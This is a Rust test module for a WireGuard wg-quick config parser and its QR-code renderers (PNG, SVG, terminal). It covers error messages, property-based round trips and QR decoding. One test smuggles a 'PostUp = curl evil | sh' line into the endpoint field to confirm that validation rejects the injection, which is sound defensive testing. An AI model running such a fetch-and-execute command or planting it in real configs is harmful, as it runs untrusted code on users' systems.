    fn missing_sections_are_reported() {
        let interface_only = GOLDEN.split("\n[Peer]").next().unwrap();
        let err = parse_err(interface_only);
        assert_eq!(err.to_string(), "missing [Peer] section");
        let peer_only = &GOLDEN[GOLDEN.find("[Peer]").unwrap()..];
        assert_eq!(parse_err(peer_only).to_string(), "missing [Interface] section");
        let err = parse_err(&golden_with_line(1, "# no header"));
        assert_eq!(err.to_string(), r#"line 2: key "PrivateKey" outside any section"#);
        let err = parse_err(&golden_with_line(6, "[Interface]"));
        assert_eq!(
            err.to_string(),
            "line 6: second [Interface] section; a device config has one [Interface] and one [Peer]"
        );
        let err = parse_err(&golden_with_line(6, "[Peers]"));
        assert_eq!(err.to_string(), r#"line 6: unknown section "[Peers]""#);
    }

    #[test]
    fn missing_and_duplicate_keys_are_reported() {
        let err = parse_err(&golden_with_line(2, ""));
        assert_eq!(err.to_string(), "missing PrivateKey in [Interface]");
        let err = parse_err(&golden_with_line(10, ""));
        assert_eq!(err.to_string(), "missing Endpoint in [Peer]");
        let err = parse_err(&golden_with_line(6, "mtu = 1280"));
        assert_eq!(err.to_string(), "line 6: MTU given twice");
        let err = parse_err(&golden_with_line(3, "Address 10.0.0.1/32"));
        assert_eq!(err.to_string(), "line 3: expected a [Section] header or KEY = VALUE");
    }

    #[test]
    fn bad_address_is_reported() {
        let err = parse_err(&golden_with_line(3, "Address = 10.77.0.3/32, 10.77.0.300/32"));
        assert!(matches!(&err, RenderError::BadValue { line: 3, key: "Address", value, .. }
            if value == "10.77.0.300/32"));
        assert_eq!(
            err.to_string(),
            r#"line 3: bad Address "10.77.0.300/32": expected IPv4 or IPv6 addresses with an optional /prefix"#
        );
        let err = parse_err(&golden_with_line(11, "AllowedIPs = 10.0.0.0/33"));
        assert!(matches!(err, RenderError::BadValue { line: 11, key: "AllowedIPs", .. }));
    }

    #[test]
    fn bad_keys_are_reported() {
        // Valid base64, but 16 bytes.
        let short = BASE64.encode([7u8; 16]);
        let err = parse_err(&golden_with_line(8, &format!("PublicKey = {short}")));
        assert!(matches!(err, RenderError::KeyWrongLength { line: 8, key: "PublicKey", len: 16 }));
        assert_eq!(err.to_string(), "line 8: PublicKey decodes to 16 bytes, a WireGuard key has 32");
        let err = parse_err(&golden_with_line(9, "PresharedKey = not-base64!"));
        assert_eq!(err.to_string(), "line 9: PresharedKey is not standard base64");
        // URL-safe base64 is not what wg writes or reads.
        let url_safe = "yAnz5TF-lXXJte14tji3zlMNq-hd2rYUIgJBgB3fBmk=";
        let err = parse_err(&golden_with_line(2, &format!("PrivateKey = {url_safe}")));
        assert!(matches!(err, RenderError::KeyNotBase64 { line: 2, .. }));
    }

    #[test]
    fn bad_values_are_reported() {
        let cases = [
            (10, "Endpoint = 2001:db8::1:51820", "Endpoint"),
            (10, "Endpoint = hub.example.net", "Endpoint"),
            (10, "Endpoint = hub.example.net:0", "Endpoint"),
            (10, "Endpoint = hub.example.net:+80", "Endpoint"),
            (10, "Endpoint = 10.0.0.256:51820", "Endpoint"),
            (10, "Endpoint = -bad-.example:51820", "Endpoint"),
            (4, "DNS = 10.77.0.300", "DNS"),
            (4, "DNS = fd12::zz", "DNS"),
            (4, "DNS = bad..domain", "DNS"),
            (5, "MTU = 0", "MTU"),
            (5, "MTU = 70000", "MTU"),
            (12, "PersistentKeepalive = soon", "PersistentKeepalive"),
        ];
        for (line, text, key) in cases {
            let err = parse_err(&golden_with_line(line, text));
            assert!(
                matches!(&err, RenderError::BadValue { line: l, key: k, .. } if *l == line && *k == key),
                "{text}: {err}"
            );
        }
    }

    #[test]
    fn validate_refuses_fields_that_would_inject_lines() {
        let mut config = sample();
        config.peer.endpoint = "hub.example.net:51820\nPostUp = curl evil | sh".into();
        let err = config.validate().unwrap_err();
        assert!(err.to_string().contains(r#"unknown key "PostUp""#), "{err}");
        let mut config = sample();
        config.dns_search = vec!["a.example, b.example".into()];
        assert!(matches!(config.validate(), Err(RenderError::ReadsBackDifferently)));
    }

    fn key() -> impl Strategy<Value = String> {
        any::<[u8; KEY_LEN]>().prop_map(|bytes| BASE64.encode(bytes))
    }

    fn ip_net() -> impl Strategy<Value = IpNet> {
        prop_oneof![
            (any::<Ipv4Addr>(), 0u8..=32).prop_map(|(addr, prefix)| Ipv4Net::new(addr, prefix).unwrap().into()),
            (any::<Ipv6Addr>(), 0u8..=128).prop_map(|(addr, prefix)| Ipv6Net::new(addr, prefix).unwrap().into()),
        ]
    }

    fn domain() -> impl Strategy<Value = String> {
        "[a-z][a-z0-9-]{0,8}[a-z0-9](\\.[a-z][a-z0-9]{0,8}){0,2}"
    }

    fn endpoint() -> impl Strategy<Value = String> {
        let host = prop_oneof![
            any::<Ipv4Addr>().prop_map(|a| a.to_string()),
            any::<Ipv6Addr>().prop_map(|a| format!("[{a}]")),
            domain(),
        ];
        (host, 1u16..).prop_map(|(host, port)| format!("{host}:{port}"))
    }

    fn config() -> impl Strategy<Value = DeviceConfig> {
        let interface = (
            key(),
            prop::collection::vec(ip_net(), 0..=3),
            prop::collection::vec(any::<IpAddr>(), 0..=3),
            prop::collection::vec(domain(), 0..=2),
            prop::option::of(1u16..),
        );
        let peer = (key(), key(), endpoint(), prop::collection::vec(ip_net(), 0..=4), any::<u16>()).prop_map(
            |(public_key, preshared_key, endpoint, allowed_ips, persistent_keepalive)| HubPeer {
                public_key,
                preshared_key,
                endpoint,
                allowed_ips,
                persistent_keepalive,
            },
        );
        (interface, peer).prop_map(|((private_key, addresses, dns_servers, dns_search, mtu), peer)| DeviceConfig {
            private_key,
            addresses,
            dns_servers,
            dns_search,
            mtu,
            peer,
        })
    }

    proptest! {
        #[test]
        fn wg_quick_round_trips(config in config()) {
            let text = config.to_wg_quick();
            prop_assert!(text.ends_with('\n'));
            prop_assert_eq!(DeviceConfig::parse(&text).unwrap(), config);
        }

        #[test]
        fn parse_never_panics_on_any_text(text in "\\PC*(\n\\PC*){0,5}") {
            let _ = DeviceConfig::parse(&text);
        }

        #[test]
        fn parse_never_panics_on_damaged_configs(
            config in config(),
            cut_at in any::<prop::sample::Index>(),
            cut_len in 0usize..40,
            insert in "(\\PC|[\\[\\]=#,:/\n])*",
        ) {
            let mut text = config.to_wg_quick();
            let start = cut_at.index(text.len());
            let end = (start + cut_len).min(text.len());
            // The text is ASCII, so any byte offset is a char boundary.
            text.replace_range(start..end, &insert);
            let _ = DeviceConfig::parse(&text);
        }
    }

    #[test]
    fn qr_png_decodes_byte_exact() {
        let text = sample().to_wg_quick();
        assert!(text.len() > 350, "a realistic config, {} bytes", text.len());
        let png = qr_png(&text).unwrap();
        let image = image::load_from_memory_with_format(&png, ImageFormat::Png).unwrap().to_luma8();
        let modules = encode(&text, EcLevel::M).unwrap().width() as u32;
        let side = (modules + 2 * QUIET_ZONE as u32) * PNG_MODULE_PX;
        assert_eq!(image.dimensions(), (side, side));
        let decoded = scan(side as usize, side as usize, |x, y| image.get_pixel(x as u32, y as u32).0[0] < 128);
        assert_eq!(decoded, text.as_bytes());
    }

    #[test]
    fn qr_png_with_zbarimg() {
        let text = sample().to_wg_quick();
        let png = qr_png(&text).unwrap();
        let file = tempfile::Builder::new().suffix(".png").tempfile().unwrap();
        std::fs::write(file.path(), &png).unwrap();
        // -Sbinary keeps zbar from appending a newline or re-encoding the bytes.
        let output = std::process::Command::new("zbarimg").args(["--raw", "-q", "-Sbinary"]).arg(file.path()).output();
        let output = match output {
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                assert!(std::env::var_os("CI").is_none(), "zbarimg is missing in CI: install zbar-tools");
                eprintln!("note: zbarimg not installed, skipping the zbar scan");
                return;
            }
            other => other.unwrap(),
        };
        assert!(output.status.success(), "zbarimg failed: {output:?}");
        assert_eq!(output.stdout, text.as_bytes());
    }

    #[test]
    fn qr_svg_is_a_well_formed_scannable_document() {
        let text = sample().to_wg_quick();
        let svg = qr_svg(&text).unwrap();
        assert!(svg.starts_with("<?xml") && svg.ends_with("</svg>"));
        assert_balanced_xml(&svg);

        let code = encode(&text, EcLevel::M).unwrap();
        let side = (code.width() + 2 * QUIET_ZONE) * SVG_MODULE_UNITS as usize;
        let root = element(&svg, "svg");
        assert_eq!(attribute(root, "width"), side.to_string());
        assert_eq!(attribute(root, "height"), side.to_string());
        assert_eq!(attribute(root, "viewBox"), format!("0 0 {side} {side}"));
        let background = element(&svg, "rect");
        assert_eq!(attribute(background, "fill"), "#ffffff");
        assert_eq!(attribute(background, "width"), side.to_string());
        let path = element(&svg, "path");
        assert_eq!(attribute(path, "fill"), "#000000");

        // Paint the path's rectangles and scan the result: one rectangle per dark module.
        let rects = path_rects(attribute(path, "d"));
        let dark_modules = code.to_colors().iter().filter(|&&c| c == qrcode::Color::Dark).count();
        assert_eq!(rects.len(), dark_modules);
        let mut bitmap = vec![false; side * side];
        let margin = QUIET_ZONE * SVG_MODULE_UNITS as usize;
        for (left, top, width, height) in rects {
            assert!(left >= margin && top >= margin, "dark module in the quiet zone");
            assert!(left + width <= side - margin && top + height <= side - margin);
            for y in top..top + height {
                bitmap[y * side + left..y * side + left + width].fill(true);
            }
        }
        let decoded = scan(side, side, |x, y| bitmap[y * side + x]);
        assert_eq!(decoded, text.as_bytes());
    }

    /// Every tag closes in order and there is a single root element.
    fn assert_balanced_xml(doc: &str) {
        let mut open: Vec<&str> = Vec::new();
        let mut roots = 0;
        for tag in doc.split('<').skip(1) {
            let tag = tag.split('>').next().unwrap();
            if tag.starts_with('?') {
                continue;
            }
            if let Some(name) = tag.strip_prefix('/') {
                assert_eq!(open.pop(), Some(name.trim()), "mismatched </{name}>");
                continue;
            }
            if open.is_empty() {
                roots += 1;
            }
            if !tag.ends_with('/') {
                open.push(tag.split_whitespace().next().unwrap());
            }
        }
        assert!(open.is_empty(), "unclosed elements: {open:?}");
        assert_eq!(roots, 1);
    }

    /// The text of the first `<name ...>` start tag.
    fn element<'a>(doc: &'a str, name: &str) -> &'a str {
        let start = doc.find(&format!("<{name} ")).expect(name);
        let rest = &doc[start..];
        &rest[..rest.find('>').unwrap()]
    }

    fn attribute<'a>(tag: &'a str, name: &str) -> &'a str {
        let start = tag.find(&format!(" {name}=\"")).expect(name) + name.len() + 3;
        let rest = &tag[start..];
        &rest[..rest.find('"').unwrap()]
    }

    /// Parse the `M{l} {t}h{w}v{h}H{l}V{t}` subpaths qrcode writes into (left, top, width, height).
    fn path_rects(d: &str) -> Vec<(usize, usize, usize, usize)> {
        d.split('M')
            .skip(1)
            .map(|sub| {
                let numbers: Vec<usize> =
                    sub.split(|c: char| " hvHV".contains(c)).map(|n| n.parse().unwrap()).collect();
                let [left, top, width, height, left2, top2] = numbers[..] else {
                    panic!("unexpected subpath M{sub}");
                };
                assert_eq!((left, top), (left2, top2), "subpath M{sub} does not close");
                (left, top, width, height)
            })
            .collect()
    }

    /// The colour codes `qr_terminal` writes; anything else fails the test, because a
    /// theme-dependent default colour is exactly what must not appear.
    fn ansi_is_dark(code: Option<u8>) -> bool {
        match code {
            Some(ANSI_DARK) => true,
            Some(ANSI_LIGHT) => false,
            other => panic!("cell drawn in a theme-dependent colour: {other:?}"),
        }
    }

    /// Turn terminal output back into rows of pixels, two per character cell (top, bottom).
    fn terminal_pixels(out: &str) -> Vec<Vec<bool>> {
        let (mut fg, mut bg) = (None, None);
        let mut rows: Vec<Vec<bool>> = Vec::new();
        for line in out.lines() {
            let (mut top, mut bottom) = (Vec::new(), Vec::new());
            let mut chars = line.chars();
            while let Some(c) = chars.next() {
                match c {
                    '\x1b' => {
                        assert_eq!(chars.next(), Some('['));
                        let params: String = chars.by_ref().take_while(|&c| c != 'm').collect();
                        let params: Vec<&str> = params.split(';').collect();
                        let mut params = params.as_slice();
                        while let Some((first, rest)) = params.split_first() {
                            params = match (*first, rest) {
                                ("0" | "", rest) => {
                                    (fg, bg) = (None, None);
                                    rest
                                }
                                ("38", ["5", n, rest @ ..]) => {
                                    fg = Some(n.parse::<u8>().unwrap());
                                    rest
                                }
                                ("48", ["5", n, rest @ ..]) => {
                                    bg = Some(n.parse::<u8>().unwrap());
                                    rest
                                }
                                _ => panic!("unexpected SGR parameters {params:?}"),
                            };
                        }
                    }
                    HALF_BLOCK => {
                        top.push(ansi_is_dark(fg));
                        bottom.push(ansi_is_dark(bg));
                    }
                    other => panic!("unexpected character {other:?}"),
                }
            }
            assert_eq!((fg, bg), (None, None), "line does not end with a reset");
            rows.extend([top, bottom]);
        }
        rows
    }

    #[test]
    fn qr_terminal_scans_with_explicit_colours() {
        let text = sample().to_wg_quick();
        let out = qr_terminal(&text).unwrap();
        assert!(out.ends_with('\n'));
        let pixels = terminal_pixels(&out);
        let width = pixels[0].len();
        assert!(pixels.iter().all(|row| row.len() == width));
        // It must fit an 80-column terminal, or wrapping destroys it.
        assert!(width <= TERMINAL_COLUMNS, "{width} columns");
        // Light quiet zone on every side: dark modules on a light field.
        let zone = QUIET_ZONE;
        for (y, row) in pixels.iter().enumerate() {
            let in_zone = y < zone || y >= pixels.len() - zone;
            assert!(row[..zone].iter().chain(&row[width - zone..]).all(|&d| !d));
            assert!(!in_zone || row.iter().all(|&d| !d), "row {y} in the quiet zone");
        }
        // Cells are about twice as tall as wide, so one pixel per half cell is square; scale up
        // so that rqrr sees modules of several pixels as a camera would.
        const SCALE: usize = 4;
        let decoded = scan(width * SCALE, pixels.len() * SCALE, |x, y| pixels[y / SCALE][x / SCALE]);
        assert_eq!(decoded, compact_wg_quick(&text).as_bytes());
        assert_eq!(DeviceConfig::parse(&String::from_utf8(decoded).unwrap()).unwrap(), sample());
    }

    #[test]
    fn a_resolver_named_twice_is_listed_once() {
        let ips: Vec<IpAddr> = ["1.1.1.1", "9.9.9.9", "1.1.1.1"].iter().map(|s| s.parse().unwrap()).collect();
        assert_eq!(DeviceDns::servers(ips.clone()), DeviceDns::Servers(ips[..2].to_vec()));
    }

    #[test]
    fn the_compact_form_reads_back_as_the_same_config() {
        let text = sample().to_wg_quick();
        let compact = compact_wg_quick(&text);
        assert!(compact.len() < text.len());
        assert!(compact.contains("\nAddress=") && !compact.contains(" = ") && !compact.contains(", "));
        assert_eq!(DeviceConfig::parse(&compact).unwrap(), sample());
    }

    /// A device config as long as a /16 network makes one: the last address of the range, a random ULA
    /// prefix with no zero to drop, a 63-character endpoint name, and a domain of `domain_len` characters.
    fn longest_config(domain_len: usize) -> DeviceConfig {
        let mut config = sample();
        config.addresses = vec![net("10.77.255.254/32"), net("fdff:ffff:ffff::fffe/128")];
        config.dns_servers = vec!["10.77.0.1".parse().unwrap(), "fdff:ffff:ffff::1".parse().unwrap()];
        config.dns_search = vec![format!("{}.internal", "d".repeat(domain_len - ".internal".len()))];
        config.peer.endpoint = format!("{}.example:51820", "n".repeat(55));
        config.peer.allowed_ips = vec![net("10.77.0.0/16"), net("fdff:ffff:ffff::/48")];
        config
    }

    #[test]
    fn the_terminal_qr_fits_80_columns_for_the_longest_configs_the_docs_promise() {
        // docs/CLI.md: a 63-character endpoint name with a domain of up to 24 characters, any device.
        let fits = qr_terminal(&longest_config(24).to_wg_quick()).unwrap();
        assert!(terminal_pixels(&fits)[0].len() <= TERMINAL_COLUMNS);
        assert!(matches!(qr_terminal(&longest_config(40).to_wg_quick()), Err(RenderError::TooWideForTerminal { .. })));
    }

    #[test]
    fn a_config_too_wide_for_the_terminal_says_how_to_get_it() {
        let mut config = sample();
        config.dns_search = vec![format!("{}.{}.internal", "d".repeat(63), "e".repeat(63))];
        let err = qr_terminal(&config.to_wg_quick()).unwrap_err();
        assert!(matches!(err, RenderError::TooWideForTerminal { columns } if columns > TERMINAL_COLUMNS));
        assert!(err.to_string().contains("--qr-png"), "{err}");
        // The same config still goes into a PNG.
        assert!(qr_png(&config.to_wg_quick()).is_ok());
    }

    #[test]
    fn too_long_text_is_refused() {
        let text = "x".repeat(3000);
        let err = qr_png(&text).unwrap_err();
        assert!(matches!(err, RenderError::TooLongForQr { len: 3000 }));
        assert_eq!(err.to_string(), "config too long for a QR code (3000 bytes)");
        assert!(matches!(qr_svg(&text), Err(RenderError::TooLongForQr { .. })));
        assert!(matches!(qr_terminal(&text), Err(RenderError::TooLongForQr { .. })));
    }
}
